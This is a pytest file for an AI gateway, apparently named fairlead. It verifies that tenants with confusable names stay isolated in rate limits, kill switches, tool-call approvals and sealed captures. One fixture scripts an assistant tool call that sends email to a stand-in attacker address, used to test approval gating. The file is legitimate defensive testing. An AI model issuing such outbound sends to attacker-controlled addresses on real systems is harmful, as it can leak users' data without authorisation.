"""Law 9: tenants don't meet, however alike their names are."""

import json
from typing import Any

import pytest
from gateway_bench import POLICY
from gateway_door import USER, Door

from fairlead.agents import Answer as Reply
from fairlead.agents import ApprovalNotFound, FileApprovals
from fairlead.guard import Lever, LeverKind, write_levers
from fairlead.identity import ApiKey, publish_keys
from fairlead.journal import Access, CaptureRefused, Sealer, read
from fairlead.testing import FixedClock

CARD = "4111 1111 1111 1111"
LIMITED = POLICY + "limits: {requests_per_minute: 1}\n"
PAIRS = [("acme", "acme2"), ("a", "a/b"), ("a", "A"), ("t", "t:k"), ("1", "11"), ("*", "t1"), ("a", "akey")]
"""Names that a careless join, prefix, pattern or fold would take for each other."""


def key(tenant: str, identifier: str) -> tuple[ApiKey, str]:
    """A key with an id of the test's choice, and its token."""
    made, token = ApiKey.issue(tenant=tenant, name="tests", scopes=("chat", "check"))
    named = ApiKey(**{name: getattr(made, name) for name in made.__struct_fields__} | {"id": identifier})
    return named, token.replace(made.id, identifier)


class Two:
    """Two tenants at one door."""

    def __init__(self, door: Door, tenants: tuple[str, str], ids: tuple[str, str] = ("key_same", "key_same"), policy: str = POLICY) -> None:
        self.door, self.tenants = door.start(policy), tenants
        (first, one), (second, two) = (key(tenant, identifier) for tenant, identifier in zip(tenants, ids, strict=True))
        publish_keys(door.settings.data_dir / "keys.json", (first, second))
        self.tokens = (one, two)

    def ask(self, who: int, message: Any = None, **extra: Any) -> Any:
        whole = {"role": "assistant", "content": "fine"} if message is None else message
        self.door.upstream.script.clear()
        self.door.upstream.script.append([json.dumps({"choices": [{"index": 0, "message": whole, "finish_reason": "stop"}]}).encode()])
        return self.door.ask({**USER, **extra}, token=self.tokens[who])


@pytest.mark.parametrize("tenants", PAIRS)
def test_each_exchange_is_its_own_tenants(door: Any, tenants: tuple[str, str]) -> None:
    two = Two(door, tenants)
    for who, tenant in enumerate(tenants):
        exchange = two.ask(who).headers["x-fairlead-exchange"]
        assert {decision.tenant for decision in door.decisions(exchange)} == {tenant}


@pytest.mark.parametrize("ids", [("key_same", "key_same"), ("b/c", "c"), ("c", "b/c"), ("k", ":k"), ("keyb", "b")])
@pytest.mark.parametrize("tenants", PAIRS)
def test_one_tenant_spends_nothing_of_anothers_limit(door: Any, tenants: tuple[str, str], ids: tuple[str, str]) -> None:
    two = Two(door, tenants, ids, LIMITED)
    assert [two.ask(0).status, two.ask(0).status] == [200, 429]
    assert [two.ask(1).status, two.ask(1).status] == [200, 429]


CALL = {"role": "assistant", "content": "", "tool_calls": [{"id": "c", "function": {"name": "search_docs", "arguments": "{}"}}]}


@pytest.mark.parametrize("tenants", PAIRS)
@pytest.mark.parametrize(("kind", "target"), [("model", "m"), ("system", "test-system"), ("key", "key_same"), ("tool", "search_docs")])
def test_a_lever_of_one_tenant_does_not_hold_for_another(door: Any, tenants: tuple[str, str], kind: LeverKind, target: str) -> None:
    two = Two(door, tenants)
    lever = Lever(id="lev_1", kind=kind, target=target, by="acc_1", at_us=1, tenant=tenants[0])
    write_levers(door.settings.data_dir / "levers.json", (lever,))
    held, free = two.ask(0, CALL), two.ask(1, CALL)
    assert held.status == (200 if kind == "tool" else 503)
    assert b'"tool_calls"' not in held.body
    assert b'"tool_calls"' in free.body


@pytest.mark.parametrize("tenants", PAIRS)
def test_a_tenant_that_is_switched_off_takes_no_other_with_it(door: Any, tenants: tuple[str, str]) -> None:
    two = Two(door, tenants)
    write_levers(door.settings.data_dir / "levers.json", (Lever(id="lev_1", kind="tenant", target=tenants[0], by="acc_1", at_us=1),))
    assert [two.ask(0).status, two.ask(1).status] == [503, 200]


MAIL = {"name": "send_email", "arguments": json.dumps({"to": "eve@evil.example", "body": "x"})}
SEND = {"role": "assistant", "content": "", "tool_calls": [{"id": "c", "type": "function", "function": MAIL}]}
AGENT = {"trajectory": "t_same", "user": "same-user"}


@pytest.mark.parametrize("tenants", PAIRS)
def test_an_approval_of_one_tenant_allows_nothing_to_another(door: Any, tenants: tuple[str, str]) -> None:
    two = Two(door, tenants)
    asked = json.loads(two.ask(0, SEND, fairlead=AGENT).body)["choices"][0]["message"]["content"]
    approval = next(word.strip(".") for word in asked.split() if word.startswith("apr_"))
    desk = FileApprovals.open(door.settings.data_dir / "approvals", door.settings.config_dir)
    yes = Reply(granted=True, approver="acc_boss")
    with pytest.raises(ApprovalNotFound):
        desk.answer(approval, tenants[1], yes, lambda _: None)
    assert desk.live(tenants[1]) == ()
    desk.answer(approval, tenants[0], yes, lambda _: None)
    presented = {**AGENT, "approvals": [approval]}
    assert b'"tool_calls"' not in two.ask(1, SEND, fairlead=presented).body
    assert b'"tool_calls"' in two.ask(0, SEND, fairlead=presented).body
    assert b'"tool_calls"' not in two.ask(0, SEND, fairlead=presented).body, "once"


@pytest.mark.parametrize("tenants", PAIRS)
def test_a_capture_of_one_tenant_is_not_opened_for_another(door: Any, tenants: tuple[str, str]) -> None:
    two = Two(door, tenants, policy=POLICY.replace("capture: none", "capture: sealed_on_finding"))
    two.ask(0, {"role": "assistant", "content": f"card {CARD}"})
    [sealed] = [entry.record for entry in read(door.plane.journal.path, 0, 100) if entry.record.kind == "capture"]
    sealer = Sealer.open(door.settings.config_dir)
    access = Access(actor="test", reason="inc_1", purpose="program")
    with pytest.raises(CaptureRefused):
        sealer.unseal(sealed.body, tenants[1], access=access, audit=lambda _: None, clock=FixedClock())
    assert CARD.encode() in sealer.unseal(sealed.body, tenants[0], access=access, audit=lambda _: None, clock=FixedClock())
    sealer.close()


def test_a_client_can_name_no_tenant(door: Any) -> None:
    two = Two(door, ("acme", "other"))
    assert two.ask(0, fairlead={"tenant": "other"}).status == 400


def test_a_token_with_anothers_key_id_is_not_known(door: Any) -> None:
    two = Two(door, ("acme", "other"), ("key_one", "key_two"))
    mixed = two.tokens[0].replace("key_one", "key_two")
    assert door.ask(USER, token=mixed).status == 401
